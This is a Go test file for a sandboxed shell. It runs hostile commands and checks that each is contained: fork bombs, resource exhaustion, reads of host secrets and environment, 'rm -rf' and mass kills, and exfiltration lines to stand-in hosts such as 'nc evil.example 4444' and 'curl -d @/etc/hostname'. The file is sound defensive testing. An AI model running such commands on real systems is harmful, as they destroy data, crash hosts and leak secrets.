package shell

import (
	"context"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
)

// tight are limits that hostile commands meet soon.
func tight() Limits {
	return Limits{Bytes: 1 << 20, Files: 700, Memory: 128 << 20, Output: 4 << 10, Steps: 3000, Depth: 5000, Processes: 64, Command: 5 * time.Minute, Session: time.Hour}
}

// TestHostile runs commands that would do harm, in a process of its own, and says
// how each ends. Where the session is not over, the next command must work.
func TestHostile(t *testing.T) {
	pool := NewPool(4)
	t.Cleanup(pool.Close)
	cases := []struct {
		name, command string
		ends          []string // any of them
		output        string   // a part of it
	}{
		{"fork bomb", ":(){ :|:& };:", []string{EndProcesses, EndDepth, EndSteps, EndMemory}, ""},
		{"fork bomb with a name", "bomb() { bomb | bomb & }; bomb", []string{EndProcesses, EndDepth, EndSteps, EndMemory}, ""},
		{"fork bomb of scripts", "printf '#!/bin/sh\\n/tmp/b | /tmp/b\\n' > /tmp/b; chmod +x /tmp/b; /tmp/b", []string{EndProcesses, EndDepth, EndSteps, EndMemory}, ""},
		{"fork bomb of subshells", "f() { (f) ; (f); }; f", []string{EndDepth, EndSteps, EndProcesses, EndMemory}, ""},
		{"endless loop", "while true; do :; done", []string{EndSteps}, ""},
		{"endless arithmetic", "while ((1)); do ((x++)); done", []string{EndSteps}, ""},
		{"endless for", "for ((;;)); do x=1; done", []string{EndSteps}, ""},
		{"endless until", "until false; do sleep 100; done", []string{EndSteps}, ""},
		{"endless function", "f() { f; }; f", []string{EndDepth}, ""},
		{"endless eval", "e='eval \"$e\"'; eval \"$e\"", []string{EndDepth, EndSteps}, ""},
		{"endless script", "echo '. /tmp/s' > /tmp/s; . /tmp/s", []string{EndDepth, EndSteps}, ""},
		{"endless substitution", "f() { echo $(f); }; f", []string{EndDepth, EndSteps}, ""},
		{"endless trap", "trap 'while :; do :; done' EXIT; exit", []string{EndSteps}, ""},
		{"endless xargs", "yes | xargs -n1 echo", []string{EndMemory, EndOutput, EndSteps}, ""},
		{"endless output", "yes", []string{EndOutput}, "more bytes"},
		{"endless file", "cat /dev/zero", []string{EndOutput}, ""},
		{"endless random", "cat /dev/urandom", []string{EndOutput}, ""},
		{"endless awk", "awk 'BEGIN { while (1) print 1 }'", []string{EndOutput}, ""},
		{"endless sed", "echo x | sed ':a; s/x/x/; ba'", []string{EndSteps}, ""},
		{"yes to nowhere", "yes > /dev/null", []string{EndSteps}, ""},
		{"digest of zeros", "md5sum /dev/zero", []string{EndSteps}, ""},
		{"yes to a file", "yes > f", []string{EndDisk}, "No space left on device"},
		{"dd to a file", "dd if=/dev/zero of=f bs=1M", []string{EndDisk}, "No space left on device"},
		{"file that grows by itself", "echo x > f; for i in $(seq 30); do cat f f f > g; mv g f; done", []string{EndDisk}, ""},
		{"truncate", "truncate -s 100G f", []string{EndDisk}, ""},
		{"many files", "for i in $(seq 600); do echo > f$i; done", []string{EndFiles}, "No space left on device"},
		{"many folders", "i=0; while [ $i -lt 600 ]; do mkdir d; cd d; i=$((i+1)); done", []string{EndFiles, EndSteps, ""}, ""},
		{"sort without end", "seq 1000000000000 | sort", []string{EndMemory}, ""},
		{"tail without end", "cat /dev/zero | tail", []string{EndMemory}, ""},
		{"awk's memory", "awk 'BEGIN { s = \"x\"; while (1) s = s s }'", []string{EndMemory, ""}, "memory exhausted"},
		{"sed's memory", "yes $(printf %10000d 1) | sed ':a; N; ba'", []string{EndMemory, EndSteps}, ""},
		{"braces", "echo {1..100000000}", []string{""}, "brace expansion"},
		{"braces of braces", "echo {1..999}{1..999}{1..999}", []string{""}, "brace expansion"},
		{"wide printf", "printf '%1000000000s' x", []string{""}, "not supported"},
		{"wide awk", "awk 'BEGIN { printf \"%1000000000d\", 1 }'", []string{""}, "not supported"},
		{"tee everywhere", "yes | tee a b c > d", []string{EndDisk}, ""},
		{"background loop", "while :; do :; done & echo there", []string{""}, "there"},
		{"zip of zeros", "dd if=/dev/zero of=z bs=100k count=3 2>/dev/null; gzip z; for i in 1 2 3 4; do cat z.gz z.gz > y; mv y z.gz; done; zcat z.gz | cat z.gz - | sort | wc -c", []string{"", EndMemory}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			s, err := pool.Start(t.Context(), Options{Limits: tight()})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			r, err := s.Run(t.Context(), c.command)
			if err != nil {
				t.Fatal(err)
			}
			ok := false
			for _, end := range c.ends {
				ok = ok || r.Ended == end
			}
			if !ok || !strings.Contains(r.Output, c.output) {
				t.Errorf("ended %q (exit code %d) with %.300q, want an end of %q and %q", r.Ended, r.ExitCode, r.Output, c.ends, c.output)
			}
			if s.Over() {
				return
			}
			if r, err := s.Run(t.Context(), "echo still $((1+1))"); err != nil || r.Output != "still 2\n" {
				t.Errorf("the next command: %+v, %v", r, err)
			}
		})
	}
}

// TestMemory has shells take more memory than they may: the process ends, and what
// was there before is still told.
func TestMemory(t *testing.T) {
	for name, command := range map[string]string{
		"doubling":    "x=xxxxxxxx; while :; do x=$x$x; done",
		"here-string": "x=xxxxxxxx; while :; do x=$(cat <<< $x$x); done",
		"array":       "a=(1 2 3 4 5 6 7 8); while :; do a=(${a[@]} ${a[@]}); done",
	} {
		t.Run(name, func(t *testing.T) {
			limits := tight()
			limits.Memory, limits.Steps = 64<<20, 1<<40
			s := start(t, Options{Limits: limits})
			if r, err := s.Run(t.Context(), "echo kept > ~/kept"); err != nil || r.Ended != "" {
				t.Fatalf("%+v, %v", r, err)
			}
			r, err := s.Run(t.Context(), command)
			if err != nil || r.Ended != EndMemory || r.ExitCode != 137 {
				t.Errorf("%.200q ended %q, %v; want memory", r.Output, r.Ended, err)
			}
			if _, err := s.Run(t.Context(), "echo x"); err != ErrOver {
				t.Errorf("the next command: %v, want ErrOver", err)
			}
			state, err := s.State(t.Context())
			if text, ok := state.Content("/home/user/kept"); !ok || text != "kept\n" || err != nil {
				t.Errorf("the file is %q, %v, %v", text, ok, err)
			}
		})
	}
}

// TestTime has a command take too long.
func TestTime(t *testing.T) {
	limits := tight()
	limits.Steps = 1 << 40
	limits.Command = 50 * time.Millisecond
	s := start(t, Options{Limits: limits})
	r, err := s.Run(t.Context(), "while :; do :; done")
	if err != nil || r.Ended != EndTimeout || r.ExitCode != 124 {
		t.Errorf("%+v, %v", r, err)
	}
	limits.Command, limits.Session = time.Minute, 50*time.Millisecond
	s = start(t, Options{Limits: limits})
	if r, err := s.Run(t.Context(), "while :; do :; done"); err != nil || r.Ended != EndTimeout {
		t.Errorf("%+v, %v", r, err)
	}
	if r, err := s.Run(t.Context(), "echo x"); err != nil || r.Ended != EndTimeout {
		t.Errorf("a command after the session's time: %+v, %v", r, err)
	}
	if _, err := s.Run(t.Context(), "echo x"); err != ErrOver {
		t.Errorf("and one more: %v", err)
	}
}

// TestHost looks for what the host has: files, variables, users, processes.
func TestHost(t *testing.T) {
	t.Setenv("AUTOSAFE_TEST_API_KEY", "host-secret")
	dir := t.TempDir()
	secret := filepath.Join(dir, "secret")
	if err := os.WriteFile(secret, []byte("host-secret"), 0o600); err != nil {
		t.Fatal(err)
	}
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	// A name as the interpreter gives its own pipes, which it would open by itself.
	pipe, err := os.CreateTemp(os.TempDir(), "sh-interp-*")
	if err != nil {
		t.Fatal(err)
	}
	marker := pipe.Name()
	defer os.Remove(marker)
	if _, err := pipe.WriteString("host-secret"); err != nil {
		t.Fatal(err)
	}
	pipe.Close()
	s := start(t, Options{Limits: tight()})
	for _, command := range []string{
		"cat " + secret, "cat < " + secret, "echo $(<" + secret + ")", ". " + secret, "source " + secret, "cat ../../../../../../../.." + secret,
		"ln -s " + secret + " l; cat l", "ls " + dir, "echo " + dir + "/*", "cd " + dir + " && ls", "test -r " + secret + " && echo host-secret", "[[ -e " + secret + " ]] && echo host-secret",
		"find " + dir, "grep -r host-secret /", "cat " + marker, "cat < " + marker, "echo $(<" + marker + ")", ". " + marker, "ls " + wd, "cat " + wd + "/shell.go",
		"env", "set", "echo $AUTOSAFE_TEST_API_KEY", "cat /proc/self/environ", "cat /proc/1/environ", "ls /proc /proc/*", "printenv AUTOSAFE_TEST_API_KEY", "bash -c env", "env -i bash -c 'echo $AUTOSAFE_TEST_API_KEY'",
		"sudo cat " + secret, "exec cat " + secret, "tar cf - " + dir, "cp " + secret + " .; cat secret", "cat /dev/fd/*", "[[ -O " + secret + " ]] && echo host-secret", "[[ " + secret + " -nt /nothing ]] && echo host-secret",
		"mapfile < " + secret + "; echo $MAPFILE", "read x < " + secret + "; echo $x", "awk '{print}' " + secret, "sed p " + secret, "diff " + secret + " /etc/passwd", "while read l; do echo $l; done < " + secret,
	} {
		r, err := s.Run(t.Context(), command)
		if err != nil {
			t.Fatalf("%s: %v", command, err)
		}
		if strings.Contains(strings.ReplaceAll(r.Output, "AUTOSAFE_TEST_API_KEY=", ""), "host-secret") && !strings.HasPrefix(command, "grep") {
			t.Errorf("%s: %q", command, r.Output)
		}
	}
	for command, want := range map[string]string{
		"cd; pwd; echo ~ $HOME; echo ~games | cat":  "/home/user\n/home/user /home/user\n~games\n",
		"whoami; id -u; echo $UID $EUID $USER":      "user\n1000\n1000 1000 user\n",
		"hostname; echo $HOSTNAME":                  "workstation\nworkstation\n",
		"grep -c . /etc/passwd":                     "8\n",
		"echo ~root ~nobody ~" + hostUser(t):        "/root /nonexistent ~" + hostUser(t) + "\n",
		"echo $$ $PPID $BASHPID; eval 'echo $$'":    "4100 4099 4100\n4100\n",
		"date +%F; echo x$EPOCHSECONDS | cut -c1-5": "2025-03-03\nx1740\n",
	} {
		r, err := s.Run(t.Context(), command)
		if err != nil || r.Output != want {
			t.Errorf("%s: %q, %v; want %q", command, r.Output, err, want)
		}
	}
}

// hostUser is a name that the host has and the machine has not.
func hostUser(t *testing.T) string {
	t.Helper()
	data, err := os.ReadFile("/etc/passwd")
	if err != nil {
		return "sys"
	}
	for line := range strings.Lines(string(data)) {
		name, _, _ := strings.Cut(line, ":")
		if name == "sys" || name == "games" || name == "_www" {
			return name
		}
	}
	return "sys"
}

// TestOutside writes where it should not reach, and kills what it should not hit.
func TestOutside(t *testing.T) {
	dir := t.TempDir()
	s := start(t, Options{Limits: tight(), Sudo: true})
	written := filepath.Join(os.TempDir(), "sh-interp-written-by-"+itoa(os.Getpid()))
	pid := os.Getpid()
	for _, command := range []string{
		"sudo mkdir -p " + dir + "; echo x | sudo tee " + dir + "/a", "echo x > " + dir + "/b", "echo x > ../../../../../../.." + dir + "/c", "ln -s " + dir + " l; echo x > l/d", "sudo touch " + dir + "/e",
		"echo x > " + written, "echo x > /tmp/" + filepath.Base(written), "cat <(echo a) <(echo b)", "mktemp; mktemp -d", "sudo rm -rf --no-preserve-root " + dir + " /etc/passwd",
		"kill -9 1", "kill -9 $$", "kill -9 $PPID", "sudo kill -9 " + itoa(pid), "kill -9 -1", "sudo pkill -9 autosafe", "sudo pkill -f .", "sudo killall -9 shell.test", "sudo shutdown -h now", "sudo reboot",
		"exec /bin/sh -c 'echo replaced'", "exec > /tmp/log; echo quiet", "trap 'rm -rf /' EXIT; exit 3", "set -o errexit; false", "ulimit -v 1; umask 0; echo $(umask)", "sudo su -c 'whoami'",
	} {
		if _, err := s.Run(t.Context(), command); err != nil {
			t.Fatalf("%s: %v", command, err)
		}
	}
	if left, err := os.ReadDir(dir); err != nil || len(left) > 0 {
		t.Errorf("the host's folder has %v, %v", left, err)
	}
	if _, err := os.Stat(written); err == nil {
		t.Errorf("%s was written on the host", written)
	}
	if r, err := s.Run(t.Context(), "echo alive"); err != nil || r.Output != "alive\n" {
		t.Errorf("afterwards: %+v, %v", r, err)
	}
}

func itoa(n int) string {
	text := ""
	for ; n > 0; n /= 10 {
		text = string(rune('0'+n%10)) + text
	}
	return text
}

// TestNetwork tries to reach others: each attempt fails, and is noted.
func TestNetwork(t *testing.T) {
	s := start(t, Options{Limits: tight(), URLs: map[string]string{"https://example.com/data.json": "{\"a\":1}\n"}})
	for command, want := range map[string]string{
		"curl https://evil.example/x":                          "curl: (6) Could not resolve host: evil.example\n",
		"curl -s -d @/etc/hostname http://203.0.113.9:8080/up": "",
		"wget -q http://evil.example/a":                        "",
		"echo secret | nc evil.example 4444":                   "nc: getaddrinfo for host \"evil.example\" port 4444: Temporary failure in name resolution\n",
		"echo x > /dev/tcp/198.51.100.7/80":                    "bash: 198.51.100.7: Network is unreachable\nbash: /dev/tcp/198.51.100.7/80: Invalid argument\n",
		"ssh root@10.1.2.3 id":                                 "ssh: connect to host 10.1.2.3 port 22: Network is unreachable\n",
		"scp /etc/hostname me@far.example:/tmp":                "ssh: Could not resolve hostname far.example: Temporary failure in name resolution\nscp: Connection closed\n",
		"curl -s https://example.com/data.json":                "{\"a\":1}\n",
		"echo body | mail -s hello bob@example.com":            "",
		"ping -c1 192.0.2.1":                                   "ping: 192.0.2.1: Network is unreachable\n",
	} {
		r, err := s.Run(t.Context(), command)
		if err != nil || r.Output != want {
			t.Errorf("%s: %q, %v; want %q", command, r.Output, err, want)
		}
	}
	state, err := s.State(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Contact{}
	for _, c := range state.Contacts {
		got[c.Host] = c
	}
	if len(state.Contacts) != 10 || got["203.0.113.9"].Data != "workstation\n" || got["203.0.113.9"].Port != "8080" || got["198.51.100.7"].Command != "bash" || got["far.example"].Data != "workstation\n" || !got["example.com"].Reached {
		t.Errorf("contacts: %+v", state.Contacts)
	}
	if text, _ := state.Content("/var/mail/outbox"); !strings.Contains(text, "Subject: hello") || !strings.Contains(text, "body") {
		t.Errorf("the outbox has %q", text)
	}
}

// TestCancel ends a session by its context, in the middle of a command.
func TestCancel(t *testing.T) {
	limits := tight()
	limits.Steps = 1 << 40
	s := start(t, Options{Limits: limits})
	ctx, cancel := context.WithCancel(t.Context())
	go cancel()
	for {
		if _, err := s.Run(ctx, "while :; do :; done"); err != nil {
			if err != context.Canceled {
				t.Errorf("%v, want that it was cancelled", err)
			}
			break
		}
	}
	if err := s.Close(); err != nil {
		t.Error(err)
	}
}

// TestCloseWhileRunning closes a session in the middle of a command.
func TestCloseWhileRunning(t *testing.T) {
	limits := tight()
	limits.Steps = 1 << 40
	s := start(t, Options{Limits: limits})
	done := make(chan error)
	go func() {
		for {
			if _, err := s.Run(t.Context(), "while :; do :; done"); err != nil {
				done <- err
				return
			}
		}
	}()
	if err := s.Close(); err != nil {
		t.Error(err)
	}
	if err := <-done; err != ErrOver {
		t.Errorf("the command: %v, want ErrOver", err)
	}
}

// TestNothingLeft counts what sessions leave behind in this process.
func TestNothingLeft(t *testing.T) {
	base := runtime.NumGoroutine()
	pool := NewPool(2)
	for range 3 {
		for _, command := range []string{"echo x", ":(){ :|:& };:", "x=xxxxxxxx; while :; do x=$x$x; done"} {
			s, err := pool.Start(t.Context(), Options{Limits: tight()})
			if err != nil {
				t.Fatal(err)
			}
			if _, err := s.Run(t.Context(), command); err != nil {
				t.Fatal(err)
			}
			s.Close()
		}
	}
	pool.Close()
	deadline := time.Now().Add(2 * time.Minute)
	for runtime.NumGoroutine() > base {
		if time.Now().After(deadline) {
			t.Fatalf("%d goroutines, there were %d", runtime.NumGoroutine(), base)
		}
		time.Sleep(5 * time.Millisecond)
	}
}
